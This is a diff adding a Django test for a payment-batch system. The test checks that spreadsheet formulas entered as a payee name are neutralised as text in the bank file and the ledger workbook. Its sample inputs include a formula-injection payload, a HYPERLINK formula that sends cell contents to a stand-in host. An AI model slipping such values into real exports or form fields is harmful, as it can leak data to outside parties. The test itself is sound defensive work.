@@ -122,3 +122,21 @@ def test_closed_loop_flags_a_batch_whose_lines_were_tampered(staff, town, paid_m
     PaymentLine.objects.filter(batch=batch, seq=1).update(amount_fen=1, city_fen=0, district_fen=1)
     problems = closed_loop_problems(PaymentBatch.objects.all())
     assert problems and problems[0][0] == batch and "控制数" in problems[0][1]
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?a="&D2,"查看")', "+1+2", "-2+3", "@SUM(1+1)"]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("name", FORMULAS)
+def test_a_formula_as_a_payee_name_stays_text_in_the_bank_file_and_ledger(staff, town, name):
+    batch = batch_run(actor=staff["bureau"], program="dibao", month="2025-08").batch
+    PaymentLine.objects.filter(batch=batch, seq=1).update(payee_name=name)  # as entered for the account holder
+    approve(staff, batch)
+    rows = _rows(file_bytes(batch_export(actor=staff["bureau"], batch=batch)))
+    assert rows[1][1] == "'" + name
+    assert rows[1][4].replace(".", "").isdigit()  # amounts stay numbers
+    ledger = batch_export(actor=staff["bureau"], batch=batch, kind=FileKind.LEDGER_XLSX)
+    sheet = openpyxl.load_workbook(io.BytesIO(file_bytes(ledger))).active
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    assert sheet.cell(row=3, column=4).value == "'" + name
